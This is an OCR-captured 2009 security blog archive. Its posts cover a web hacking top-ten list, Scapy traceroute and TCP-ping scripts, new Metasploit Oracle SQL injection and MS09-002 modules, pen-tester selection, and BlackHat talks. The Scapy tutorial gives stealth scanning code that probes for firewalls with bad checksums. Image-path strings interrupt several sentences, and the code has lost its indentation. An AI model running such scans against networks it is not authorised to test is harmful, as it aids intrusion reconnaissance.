Friday, February 27, 2009

Top 10 Web Hacking Techniques

Jeremiah Grossman just posted (well...awhile ago) the official Top Ten Web Hacking Techniques.

I want to give a shout out to dean who did a great post on ActiveX repurposing or "0wning the client without an exploit" back in August. ActiveX repurposing is #9 in the Top 10, and #41 (blog post linked there) on the big list. Unfortunately He nor c0 was specifically mentioned in thetop10 even though it was mentioned in the big list.

...maybe next year.

Wednesday, February 25, 2009

Traceroute Collector/ Aggregator for Scapy

One of the main reasons I picked up Scapy is for the graphs. I have never been a visual guy, so Scapy is like magic when it comes to network mapping let alone network traffic manipulation. Well, I really liked Scapy's basic graphing features, but when you have a large set of hosts to trace route, it gets annoying popping up the graphs with the black hole hosts. This gets true when the hosts paths to the target network. Another thing that I wanted is the ability to group endpoints.

It took me about a week along with other work to get everything down (note last weeks post), but I think I managed to get a basic implementation. I set it up so I can perform a number of individiual traceroute operations, and then drop them in a collector of sorts. Then when all the traceroutes are complete, then you can generate graphs with grouped endpoints and then the blackholes are ommitted. I borrowed some code from Philippe's implementation of TracerouteResult.make_graph. There is alot of extra code in TracerouteCollector class because I was tried a few different ways offorming the graph. I eventually got so frustrated that I create a basic traceroute path string and parse that result. I attempted merging TracerouteResults as well as maintaining other stuff, but it got complex quick, which lead to more frustration.

Like I said in the end, I gave up on the native traceroute result object and built my own path string. Depending on whether the traceroute found the endpoint it ends up in a completed path or incompleted path bin. When I build the graph, I go through and group the results based on the path taken and the endpoint was reached. I alsogo through and enumerate all the ASNs. However, when nodes are grouped together, the ASN is based off the first IP address in the grouping. Otherwise, there will be extraneous nodes in the image. While I don't do this, someone could just prune the ASN results, but I have another project that I need to start on, so I did not get around to that.
I also have code that will write the traceroute trace, the graph, and then read in a traceroute trace from file. This might be useful if you want to do something else or save the traceroute for use later.

The class is meant to augment Scapy functionality so you would include it along with yourScapy includes:

# from scapy.all is imported in the trace_route_combine module
from trace_route_combine import *
t = TracerouteCollection()
x = traceroute("", maxttl=18, dport=80)
x = traceroute("", maxttl=18, dport=80)
x = traceroute("", maxttl=18, dport=80)
x = traceroute("", maxttl=18, dport=80)
x = traceroute("", maxttl=18, dport=80)
x = traceroute("", maxttl=18, dport=80)
# now to create the graph
# or get the graph string
gs = t.build_graph()
# get paths to all the trace routed hosts
# x> is a down host and => is an up host
paths = t.get_paths_to_hosts()

As usual the code is open source and licensed under GPL. If you like it let me know, if you hate it let me know too. This is experimental but usable code.


Saturday, February 21, 2009

Modern Social Engineering Webcast

Figured I'd pimp out what should be a really good webcast by Chris Nickerson and Mike Murray. They will also be doing a Social Engineering Course at the next ChicagoCon.


Webcast: Modern Social Engineering - A Vital Component of Pen Testing

eh-net_tv.jpgThe world of Information Security is changing. Budgets are tighter, attacks are more sophisticated, and the corporate network is no longer the low hanging fruit. That leaves web-enabled applications as the vector-du-jour, but that well is quickly drying up for organized crime as well. As they creep up the OSI Model looking for easierways to steal your corporate assets, they are quickly making their way up the stack to the unspoken 8th layer, the end user. So what is the next step in the never-ending escalation of this cyber war?

To find out, we must do as Sun Tzu taught. "Think like our enemy!" That is, after all, the primary tenet of penetration testing AKA ethical hacking, isn't it? After years of hardening physical systems, networks, OSs, and applications, we have now come full circle to a new dawn of attack. People are now the target of the advanced hacker, and the cross-hairs are focused squarely on their foreheads... literally. It is only a matter of time before corporations feel the pain of wetware hacking requiring a new approach to testing and defense.

Join world-renowned social engineers, Chris Nickerson of TruTV's Tiger Team and noted expert and international speaker, Mike Murray, as they prepare you for the future of pen testing. This webcast on Tuesday March 10, 2009 at 11:00 CST is your primer to the world of "Modern Social Engineering."


New Oracle SQLI Coverage

MC recently added some recent Oracle SQLI exploits by Sh2kerr of Digital Security Research Group which is a great site if you are into Oracle stuff. Their Different ways to guess Oracle SIDs paper is really good.

Info here

adds coverage for:

Oct 08 CPU


They also published
droptable_trigger (MDSYS.SDO_TOPO_DROP_FTBL Trigger)

which is coverage for:

Jan 2009 CPU

all four exploits are in trunk. Enjoy!

Friday, February 20, 2009

Response to How to Choose a Pen Tester

So a response to "How to Choose a Pen Tester"

Let me start with that I agree with the core of Steve's argument. Yes if I pay someone to come in and do "anything" on my network I want to be able to trust them not steal info, plant trojans, or air my dirty laundry out on the net when they are done.I don't disagree with that.


A few comments not sure they are quite counterpoints

1. I personally don't see a big prevalence of pentest shops doing pentests and posting customer data on the net in any form. If there are examples show me. He mentions in 6 months he heard ONE story about someone that did that and didn't provide a link...ummm ok. Is it believable that it does happen/has happened/could happen?...yes. That every pentest shop isdoing it (except his which is really the point of the post)... doubtful. Its not a smart business decision to 1) as a company do that or 2) allow your testers to do that on their personal blogs.

2. As David Hull mentioned, what is the problem with talking about a pentest as long as the customer cant be derived from the post/presentation/email or there isnt enough actionable information to conduct the attack? If companyX was vulnerable to SQLI 6 months ago and I went in and found it using some creative method and i decided to share that experience on my blog or at a conference what is the problem with that? The company isn't vulnerable any more and if I had to figure out some new method of doing "whatever" unless it was explicitly in the contract not to share "new pentest methods" aren't those mine to share as a I see fit? It helps the community when others talk about things they have seen on a pentest even if its just to make the other guy feel a tad bit better than someone else lives in jacked up network hell. Even though I always get alot more out of peoples posts about their pentests.

3. I realize that Steve proposes you do a scorecard but really....trustworthiness over competence? Why on earth would you ever even consider doing business with someone youdidn't trust? I don't see how anyone with half a brain would put themselves in the position of...hmmm do I choose the trustworthy CEH or the untrustworthy l33t ass hacker....ummm NEITHER! You pick a company that hires intelligent, competent, trustworthy, and the rest of the stuff on his scorecard people. Is there really that many companies that are that piss poor that even make it past a scoping call? and more importantly do the decision makers for choosing the testers not have the ability to pick the good from the bad?

I should insert a shameless plug here but I don't think its necessary :-)

MS09_002 Memory Corruption Update

CGjust pushed the code to the Metasploit trunk so go run 'svn update' and enjoy. Any feedback would be good. I'll writeup a little something on it and how the vuln is triggered too when I get a chance.

dean de beer

Thursday, February 19, 2009

Quick Scapy Tutorial for Extending Tools: Batch Tcpping

Originally posted from here.

Like every good hacker with nothing to do, I have my hand in someone elses cookie jar learning how to do something cool. This week I took some time to learn how-to use Scapy 2.0, and I wrote a script to perform a batch TCP Ping. I am sure someone will say in the back of their mind...."there is this tool called nmap." I my response, yes I know and everyone uses that tool, I want to fly under the radar not into it. I am not saying what I did is guaranteeing I am not in that category, but its a step away from the crowd.

I wanted to control some of the data in the TCP segment (e.g. payload, sequence number, dport, sport, etc.), and I wanted something to tell me *waves hands in circles* if there was possibly an IPS or Firewall in my way that would be nice too. Basically, all this script does for the time being is takes a file to be expanded/reconned, and tcp-pings them with some randomized settings in the TCP Layer. Not novel and innovative, but a good learning exercise. There are a couple of other directions that Iwould like to take this, but for the time being, I figure I would share what I have and what I learned. This is for Scapy 2.0+, there was a major software change between the 2 releases. I am going to basically list the interesting parts of my code and explain what I am doing. I learn by example, and in this fast furious world of "teh netz", I am sure others do too. I have been told my posts are a tad lengthy, so I will just hit the highlights.

I know there is logic that I can put in the script to make it a little smarter and faster, but for now, it can serve as a good tutorial for others. Apparently, Google Blogger might be distorting the code a bit, but it can be seen in it's full Pythonic whitespaced beauty here

Step 1. Importing Scapy into the script and silencing the verbosity:

from scapy.all import *
# default conf.verbose = 2
conf.verbose = 0

Step 2. Create my Tcp-Ping Packet and send it along the way

def tcp_ping_host(host, port=80, ppayload=None, to=1):
# host is the ip-address string
# sport is the dst-port to scan from
# seq number is current seq number of the packet
# if we want to mix it up and add arbtrary payloads
# simply make ppayload into a string, or a RandString(size, chars)
p = IP(dst=host)/TCP(dport=port, sport=RandShort(), seq=RandShort())
if ppayload:
p.payload = str(ppayload)
pOpen = False
hIPS = False
# send a single packet and wait for to*1 Seconds for a response
a = sr1(p, timeout=to)
# if the answer,a, is None, the host did not respond
# if a is a response, and it is ICMP and type ==1
# then the host is unreachable, port unreachable indicates
# there may be a host there (UDP) type scan
# a.haslayer(ICMP) checks if the packet has an ICMP layer
# a.getlayer(ICMP) gets the instance of the layer and then
# the fields for that layer can be referenced, e.g.
# a.getlayer(ICMP).type lets us access the type field
if a is None:
return a, False, False, False
elif a.haslayer(ICMP) and a.getlayer(ICMP).code != 3\
and a.getlayer(ICMP).type != 3:
return a, False, False, False
# 0x12 are the Syn-Ack in the flag fields of the TCP Segment
pOpen = a.haslayer(TCP) and (a.getlayer(TCP).flags == 0x12)
# try with a bad-sum
# some IPS/IDS/Firewalls respond to all packets, so lets mix
# it up and shoot a random/bad checksum at them# to do this we will take p and modify the chksum to be a random
# short value and send it along (Idea was grabbed from nmapdocs)
t = p.getlayer(TCP)
t.chksum = RandShort()
b = sr1(p, timeout=to)
# if we get a reply, its safe to say the host is FAIL
# or its a security device.
if not b is None:
hIPS = True
# fini. hope it was as fun for you as it was for mw.
# Spent all day in the coffee shop on this one, yay!
return a, True, hIPS, pOpen

There is some other functionality hidden away in the script like scanning a set of ports randomly, scanning hosts in random order, resuming a scan (or adding hosts to a do not scan list, etc.), but I have not tested all that stuff, but its there. I also posted some code a few light years ago on OpenRCE about using Scapy. Anyway enough talk, time for bed. Hope this was helpful to some. Have a good weekend.

As always here is my code:

BlackHat Day 1 Writeup

As promised...

The keynote was pretty good, there is lots of buzz about it on the net. BlackHat was nice enough to post the video:

Like usual it seems I picked the wrong least for my first talk... There is tons of buzz about the SSL talk which I did not attend. But will be watching tomorrow since BH was nice enough to share it as well.

Instead I went to Travis Goodspeed's Reversing and Exploiting Wireless Sensors Travis is amazing at hardware hacking. I didn't take alot of notes on the talk because most of it was over my head but for me the big takeaway is thatjust because things aren't PC's doesn't mean they aren't on the network and certainly doesn't mean they aren't pwnable. Travis basically demonstrated the various ways to defeat two popular microcontrollers which could lead to all kinds of fun things if you have zigbee network in your infrastructure .

I left the Vista Security Internals one, too much Windows code for my brain to handle. The jist was that there were some major changes to LSASS with Vista SP1 that would make stealing password hashes out of memory via dll injection much much harder to do. If someone stayed for the whole thing I'd appreciate a wrap up of what the dealio was and if it has been defeated yet. I went over the OS X talk but he had already talked about whatever it was about and was doing demos.

